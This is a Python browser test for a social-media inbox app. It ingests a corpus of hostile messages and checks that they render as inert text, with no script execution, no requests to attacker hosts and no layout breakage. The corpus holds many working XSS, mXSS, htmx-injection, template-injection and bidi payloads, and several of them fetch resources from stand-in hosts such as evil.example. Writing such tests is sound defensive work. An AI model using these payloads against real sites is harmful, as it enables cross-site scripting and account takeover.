"""In a real browser: whatever the public writes shows as text, never runs, and cannot bend the inbox.

Issue 5's security bar. A corpus of hostile messages (markup that runs script, remote resources, CSS
overlays, template and htmx injection, attribute and parser breakouts, bidirectional tricks, malformed and
oversized Unicode) is ingested through the real path, in the text, the author's handle and name, and the
item's link. Chromium then renders the list, opens every conversation by mouse and by keyboard, and waits for
the list's htmx refresh. Every payload that ran would set `window.__xss` or open a dialog; every remote
resource points at an attacker host, so a request leaving the live server means a payload was honoured.
"""

from __future__ import annotations

import datetime as dt
import re
import urllib.parse

import pytest
from django.conf import settings
from django.utils import timezone
from playwright.sync_api import Dialog, Page, expect
from pytest_django.live_server_helper import LiveServer

from flokk.channels.connectors.base import InboundAuthor, InboundItem
from flokk.channels.models import Account
from flokk.channels.networks import Network
from flokk.inbox.models import Conversation, Message
from flokk.inbox.services.ingest import clean_text, ingest
from flokk.teams.models import Organization
from flokk.teams.services.demo import demo_email

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

RUN = "window.__xss=1;alert(1)"  # what every script payload does if it ever runs
EVIL = "https://evil.example"
ATTACKER_HOSTS = ("evil.example", "attacker.example")
COMBINING = "".join(chr(0x300 + k % 0x70) for k in range(3000))  # zalgo: 3,000 marks on one letter
FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"  # one emoji, four people joined
EMOJI_ZWJ = FAMILY + "\U0001f3f3\ufe0f\u200d\U0001f308" + "\U0001f468\U0001f3ff\u200d\U0001f680"

# (what it tries, the text of the message)
PAYLOADS: list[tuple[str, str]] = [
    ("script", f"<script>{RUN}</script>"),
    ("script, odd case", f"<ScRiPt >{RUN}</sCrIpT >"),
    ("remote script", f'<script src="{EVIL}/x.js"></script>'),
    ("img onerror", f'<img src=x onerror="{RUN}">'),
    ("remote image", f'<img src="{EVIL}/pixel.png" width=1 height=1>'),
    ("svg onload", f'<svg onload="{RUN}">'),
    ("svg script", f"<svg><script>{RUN}</script></svg>"),
    (
        "svg animate href",
        '<svg><a><animate attributeName=href values="javascript:window.__xss=1"/><text>hi</text></a></svg>',
    ),
    ("details ontoggle", f'<details open ontoggle="{RUN}"><summary>x</summary></details>'),
    ("autofocus onfocus", f'<input autofocus onfocus="{RUN}">'),
    ("javascript link", f'<a href="javascript:{RUN}">click me</a>'),
    ("data link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">open</a>'),
    ("javascript url as text", f"javascript:{RUN}// and {EVIL}/phish"),
    (
        "iframe",
        f'<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    ),
    ("object and embed", f'<object data="{EVIL}/x.swf"></object><embed src="javascript:alert(1)">'),
    ("style block", f"<style>body{{display:none}} *{{background:url({EVIL}/css.png)}}</style>"),
    (
        "fixed overlay",
        '<div style="position:fixed;inset:0;z-index:2147483647;background:#c00">Account locked</div>',
    ),
    ("css expression", f'<p style="width:expression({RUN});background:url(javascript:{RUN})">old IE</p>'),
    ("stylesheet and import", f'<link rel=stylesheet href="{EVIL}/x.css"> @import url({EVIL}/a.css);'),
    ("meta refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/">'),
    ("base href", f'<base href="{EVIL}/">'),
    ("django template", "{{ request.user.password }} {% debug %} {{ 7|add:1330 }}"),
    ("js templates", "${window.__xss=1} #{7*7} <%= 7*7 %> `${alert(1)}`"),
    ("angular sandbox", "{{constructor.constructor('window.__xss=1;alert(1)')()}}"),
    ("htmx load", f'<div hx-get="{EVIL}/h" hx-trigger="load" hx-swap="outerHTML">x</div>'),
    ("htmx on", f'<button hx-on:click="{RUN}">Win</button><div hx-on::load="{RUN}">'),
    (
        "htmx data attrs",
        f'<form hx-post="/logout/" hx-trigger="load"></form>'
        f'<i data-hx-get="{EVIL}/d" data-hx-trigger="load">',
    ),
    ("double-quote break", f'"><script>{RUN}</script>'),
    ("single-quote break", f"'><img src=x onerror='{RUN}'>"),
    ("attribute injection", f'" autofocus onfocus="{RUN}" x="'),
    ("textarea break", f"</textarea><script>{RUN}</script>"),
    ("markup break", f"</bdi></a></li></ol></div><script>{RUN}</script><title>"),
    ("comment break", f"--><script>{RUN}</script><!--"),
    ("mXSS noscript", f'<noscript><p title="</noscript><img src=x onerror={RUN}>">'),
    ("mXSS svg style", f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">'),
    ("mXSS math", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>"),
    (
        "entities",
        "&lt;script&gt;window.__xss=1&lt;/script&gt; &#106;avascript:alert(1) "
        "&#x3C;img src=x onerror=alert(1)&#x3E;",
    ),
    ("right-to-left override", "Great service \u202e!dnuofer a tnaw I and my invoice.exe"),
    (
        "bidi soup",
        "\u2067\u202e \u2066 admin\u2069 \u202d LRO \u200f RLM \u061c ALM,"
        " unmatched pops \u202c\u202c\u2069\u2069",
    ),
    ("trojan source", "/* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */"),
    (
        "zero width",
        "<scr\u200bipt>window.__xss=1</scr\u200bipt> ja\u200dva\u200cscript:alert(1) \ufeff\u2060\u200b",
    ),
    ("zalgo", "Z" + COMBINING + " A" + COMBINING[:500] + " L G O"),
    ("20,000-character word", "W" * 20_000),
    ("lone surrogates", "broken \ud800 pair \udfff end \udbff\udc00 ok"),
    ("NUL and controls", "nul\x00byte \x1b[31mred\x1b[0m \x08\x7f \x85 \u2028 line \u2029 para"),
    ("noncharacters", "\ufffe\uffff\U0010ffff \U000e0041\U000e0042 tag characters"),
    ("emoji ZWJ flood", EMOJI_ZWJ * 300),
    ("three thousand lines", "line\n" * 3000),
    ("markdown links", f"[click](javascript:{RUN}) ![x]({EVIL}/md.png)"),
]

# (handle, display name): the same tricks where people's names appear
HOSTILE_AUTHORS: list[tuple[str, str]] = [
    (f"<script>{RUN}</script>@evil.example", f"<img src=x onerror={RUN}>"),
    ('"><svg onload=window.__xss=1>', "' onmouseover='window.__xss=1"),
    ("admin\u202etxt.exe", "\u202eRetsinimda Flokk"),
    ("{{ request.user }}", "${alert(1)} {% csrf_token %}"),
    ("a" * 400, "N" * 400),
    ("zw\u200d\u200bj@example.social", "Z" + COMBINING[:300]),
    ("nul\x00\ud800@example.social", "\ud83d lone \x00 half"),
    ("hx@example.social", f'<a hx-get="{EVIL}/a" hx-trigger="load">me</a>'),
    ("emoji@example.social", FAMILY * 50),
    ("javascript:alert(1)", "<style>*{display:none}</style>"),
]

# The item's link, as a network might (mis)report it
HOSTILE_URLS = [
    f"javascript:{RUN}",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:msgbox(1)",
    f'{EVIL}/" onmouseover="{RUN}',
    f'{EVIL}/"><script>{RUN}</script>',
    "//evil.example/protocol-relative",
    "",
]


def _items() -> list[InboundItem]:
    """One mention per payload (each a conversation of its own), and three answers in the first thread."""
    start = timezone.now() - dt.timedelta(hours=1)

    def author(index: int) -> InboundAuthor:
        handle, name = HOSTILE_AUTHORS[index % len(HOSTILE_AUTHORS)]
        return InboundAuthor(
            remote_id=f"hostile-{index % len(HOSTILE_AUTHORS)}", handle=handle, display_name=name
        )

    items = [
        InboundItem(
            remote_id=f"xss-{index}",
            kind="mention",
            text=text,
            author=author(index),
            created_at=start + dt.timedelta(seconds=index),
            thread_id=f"xss-{index}",
            url=HOSTILE_URLS[index % len(HOSTILE_URLS)],
        )
        for index, (_name, text) in enumerate(PAYLOADS)
    ]
    items += [
        InboundItem(
            remote_id=f"xss-0-answer-{n}",
            kind="reply",
            text=PAYLOADS[-1 - n][1],
            author=author(n + 3),
            created_at=start + dt.timedelta(minutes=5, seconds=n),
            thread_id="xss-0",
            parent_id="xss-0",
            url=HOSTILE_URLS[n + 5],
        )
        for n in range(3)
    ]
    return items


class Watch:
    """What the page did that it must not: dialogs, script errors, requests that left the live server."""

    def __init__(self, page: Page, origin: str) -> None:
        self.dialogs: list[str] = []
        self.errors: list[str] = []
        self.requests: list[str] = []
        self.origin = origin
        page.on("dialog", self._dialog)
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        page.on("request", lambda request: self.requests.append(request.url))

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def assert_nothing_ran(self, page: Page) -> None:
        assert self.dialogs == []
        assert self.errors == []
        assert page.evaluate("typeof window.__xss") == "undefined"
        hosts = {urllib.parse.urlsplit(url).hostname for url in self.requests}
        assert not hosts & set(ATTACKER_HOSTS), self.requests
        assert [url for url in self.requests if not url.startswith(self.origin)] == []


# Any element or attribute the templates never produce in the panes, which only a payload parsed as markup
# could have made.
INJECTED_MARKUP = """() => {
  const foreign = new Set(["script", "iframe", "img", "svg", "math", "style", "link", "meta", "base",
    "object", "embed", "noscript", "frame", "frameset", "video", "audio", "source", "details", "title",
    "template"]);
  const found = [];
  for (const el of document.querySelectorAll(".inbox-panes *")) {
    const tag = el.tagName.toLowerCase();
    if (foreign.has(tag)) found.push(tag);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.trim().toLowerCase();
      const externalLink = tag === "a" && name === "href" && el.target === "_blank";
      if (name.startsWith("on") || name.includes("hx-on") || name === "style" || name === "srcdoc"
          || name === "autofocus") found.push(`${tag}[${name}]`);
      if (/^(javascript|data|vbscript):/.test(value)) found.push(`${tag}[${name}=${value.slice(0, 40)}]`);
      if (externalLink && !/^https?:\\/\\//.test(value)) found.push(`a[href=${value.slice(0, 40)}]`);
      if (!externalLink && /__xss|alert\\(|evil\\.example/.test(value)) {
        found.push(`${tag}[${name}=${value.slice(0, 40)}]`);
      }
      if ((name === "hx-get" || name === "hx-post") && !value.startsWith("/")) found.push(`${tag}[${name}]`);
      if (name === "hx-trigger" && el.id !== "conversation-list") found.push(`${tag}[hx-trigger]`);
    }
  }
  return found;
}"""

LAYOUT = """() => {
  const box = (selector) => document.querySelector(selector).getBoundingClientRect().toJSON();
  const scroller = document.scrollingElement;
  const rows = [...document.querySelectorAll("#conversation-list .conversation-row")].map(
    (row) => row.getBoundingClientRect().toJSON());
  // Nothing laid over the page: the topmost element at each pane's corner belongs to that pane.
  const ownsCorner = (selector) => {
    const pane = document.querySelector(selector);
    pane.scrollIntoView({block: "start"});
    const rect = pane.getBoundingClientRect();
    const hit = document.elementFromPoint(rect.left + 5, Math.max(rect.top, 0) + 5);
    return hit !== null && pane.contains(hit);
  };
  const listOwnsCorner = ownsCorner(".inbox-list"), detailOwnsCorner = ownsCorner(".inbox-detail");
  window.scrollTo(0, 0);
  const brand = document.querySelector(".topbar .brand").getBoundingClientRect();
  return {
    scrollWidth: scroller.scrollWidth, clientWidth: scroller.clientWidth, viewport: window.innerWidth,
    list: box(".inbox-list"), detail: box(".inbox-detail"), rows, listOwnsCorner, detailOwnsCorner,
    brandOnTop: document.elementFromPoint(brand.left + 2, brand.top + 2)?.closest(".brand") !== null,
    overflowing: [...document.querySelectorAll(".inbox-panes :is(.message-meta, .row-top, .row-bottom)")]
      .filter((el) => el.scrollWidth > el.clientWidth + 1).map((el) => el.className),
  };
}"""

# Whether the first visible characters of the element's text are laid out left to right.
READS_LEFT_TO_RIGHT = """(element) => {
  const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
  let node;
  while ((node = walker.nextNode()) && node.textContent.trim().length < 2) {}
  const start = node.textContent.search(/\\S/);
  const left = (offset) => {
    const range = document.createRange();
    range.setStart(node, offset);
    range.setEnd(node, offset + 1);
    return range.getBoundingClientRect().left;
  };
  return left(start + 1) > left(start);
}"""

ISOLATED = "(el) => el.tagName === 'BDI' || getComputedStyle(el).unicodeBidi === 'isolate'"


def _sign_in(page: Page) -> None:
    page.goto("/login/")
    page.get_by_label("E-mail").fill(demo_email("community-manager"))
    page.get_by_label(re.compile(r"^Password:?$")).fill(settings.DEMO_PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def _assert_layout_holds(page: Page, *, side_by_side: bool) -> None:
    layout = page.evaluate(LAYOUT)
    assert layout["scrollWidth"] <= layout["clientWidth"] + 1, layout["scrollWidth"]
    width = layout["viewport"]
    for pane in (layout["list"], layout["detail"]):
        assert pane["left"] >= 0 and pane["right"] <= width and pane["width"] > 200
    for row in layout["rows"]:
        assert layout["list"]["left"] - 1 <= row["left"] and row["right"] <= layout["list"]["right"] + 1
    tops = [row["top"] for row in layout["rows"]]
    assert tops == sorted(tops)  # rows stacked in order, none lifted over another
    if side_by_side:
        assert layout["detail"]["left"] >= layout["list"]["right"]
        assert abs(layout["detail"]["top"] - layout["list"]["top"]) < 2
    else:
        assert layout["detail"]["top"] >= layout["list"]["bottom"]
    assert layout["listOwnsCorner"] and layout["detailOwnsCorner"] and layout["brandOnTop"]
    assert layout["overflowing"] == []


def _open(page: Page, conversation_pk: str) -> None:
    page.locator(f'#conversation-list [data-conversation="{conversation_pk}"] a').click()
    expect(page.locator(f'#conversation [data-conversation-detail="{conversation_pk}"]')).to_have_count(1)


def test_hostile_messages_render_as_text_and_the_layout_holds(
    page: Page, live_server: LiveServer, demo: Organization
) -> None:
    # Given the demo's community manager, and every hostile message the corpus holds, stored by ingest
    account = Account.objects.create(
        organization=demo, network=Network.MASTODON, handle="brand@example.social"
    )
    report = ingest(account, _items())
    assert report.stored == len(PAYLOADS) + 3 and report.skipped == 0
    threads = dict(Conversation.objects.filter(account=account).values_list("thread_remote_id", "pk"))
    pk_of = {index: str(threads[f"xss-{index}"]) for index in range(len(PAYLOADS))}
    stored = Message.objects.filter(conversation__in=threads.values()).order_by("received_at")
    texts: dict[str, list[str]] = {}
    for conversation, text in stored.values_list("conversation_id", "text"):
        texts.setdefault(str(conversation), []).append(text)
    # Stored as written, only made storable: what the browser gets is the whole corpus
    assert [texts[pk_of[index]][0] for index in range(len(PAYLOADS))] == [clean_text(t) for _n, t in PAYLOADS]
    watch = Watch(page, live_server.url)
    page.add_init_script(
        "document.addEventListener('htmx:afterSwap', (event) => {"
        " if (event.target.id === 'conversation-list')"
        " window.__listRefreshes = (window.__listRefreshes || 0) + 1; });"
    )
    page.set_viewport_size({"width": 1280, "height": 900})
    _sign_in(page)

    # When the inbox lists them
    page.goto(f"/o/{demo.slug}/inbox/")
    watch.assert_nothing_ran(page)
    assert page.evaluate(INJECTED_MARKUP) == []
    rows = page.locator("#conversation-list .conversation-row")
    expect(rows).to_have_count(len(PAYLOADS))

    # Then each preview is exactly the stored text, as text, isolated from the row around it
    previews = dict(Conversation.objects.filter(account=account).values_list("pk", "preview"))
    shown = page.eval_on_selector_all(
        "#conversation-list .conversation-row",
        "rows => rows.map(row => [row.dataset.conversation, row.querySelector('.preview-line').textContent])",
    )
    assert {pk: text for pk, text in shown} == {str(pk): text for pk, text in previews.items()}
    assert page.locator(".preview-line").evaluate_all(f"all => all.every({ISOLATED})")
    expect(rows.filter(has_text=f"<script>{RUN}</script>").first).to_be_visible()

    # ... and a right-to-left override does not flip what follows it in its row
    for index, (_name, text) in enumerate(PAYLOADS):
        if "\u202e" in text:
            row = page.locator(f'[data-conversation="{pk_of[index]}"]')
            assert row.locator(".preview-line").evaluate(ISOLATED)
            assert row.locator(".row-bottom").evaluate(READS_LEFT_TO_RIGHT)
            assert row.locator(".row-top time").evaluate(READS_LEFT_TO_RIGHT)

    # When the community manager moves down and up with j and k, and opens with Enter
    for key in ("j", "j", "j", "k"):
        page.keyboard.press(key)
    expect(rows.nth(1)).to_have_class(re.compile(r"\bselected\b"))
    second = rows.nth(1).get_attribute("data-conversation")
    page.keyboard.press("Enter")
    expect(page.locator(f'#conversation [data-conversation-detail="{second}"]')).to_have_count(1)

    # ... and then opens every conversation with the mouse (the list refreshes on its own meanwhile)
    for pk in [pk_of[index] for index in range(len(PAYLOADS))]:
        _open(page, pk)
        detail = page.locator("#conversation")
        # Then the thread shows each message's text exactly (line breaks become <br>), never as markup
        shown_texts = detail.locator(".message-text").evaluate_all("all => all.map(el => el.textContent)")
        assert shown_texts == [text.replace("\n", "") for text in texts[pk]]
        assert detail.locator(".message-meta bdi").evaluate_all(f"all => all.every({ISOLATED})")
        assert page.evaluate(INJECTED_MARKUP) == [], pk
        watch.assert_nothing_ran(page)

    # ... where the markup reads as what it is, and names and times after an override still read left to right
    _open(page, pk_of[0])
    expect(page.locator("#conversation .message-text").first).to_have_text(f"<script>{RUN}</script>")
    expect(page.locator("#conversation .message-meta").first).to_contain_text("<img src=x onerror=")
    rtl_author = next(
        i for i in range(len(PAYLOADS)) if "\u202e" in HOSTILE_AUTHORS[i % len(HOSTILE_AUTHORS)][1]
    )
    _open(page, pk_of[rtl_author])
    meta = page.locator("#conversation .message-meta").first
    assert meta.locator("bdi").first.text_content() == HOSTILE_AUTHORS[2][1]
    assert meta.locator("time").evaluate(READS_LEFT_TO_RIGHT)

    # When the manager picks a hostile message to answer, its text is quoted as text
    page.locator("#conversation [data-answer-to]").first.click()
    expect(page.locator("#conversation [data-answer-target]")).to_have_text(
        "↳ " + texts[pk_of[rtl_author]][0][:80]
    )

    # Then, once the list has refreshed through htmx, still nothing ran and the layout holds at both widths
    page.wait_for_function("window.__listRefreshes >= 1", timeout=15_000)
    expect(rows).to_have_count(len(PAYLOADS))
    assert page.evaluate(INJECTED_MARKUP) == []
    _open(page, pk_of[next(i for i, (name, _text) in enumerate(PAYLOADS) if name == "20,000-character word")])
    _assert_layout_holds(page, side_by_side=True)
    page.set_viewport_size({"width": 800, "height": 900})
    _assert_layout_holds(page, side_by_side=False)
    _open(page, pk_of[4 + len(HOSTILE_AUTHORS)])  # the oversized handle and name
    _assert_layout_holds(page, side_by_side=False)
    page.set_viewport_size({"width": 1280, "height": 900})
    _assert_layout_holds(page, side_by_side=True)
    watch.assert_nothing_ran(page)
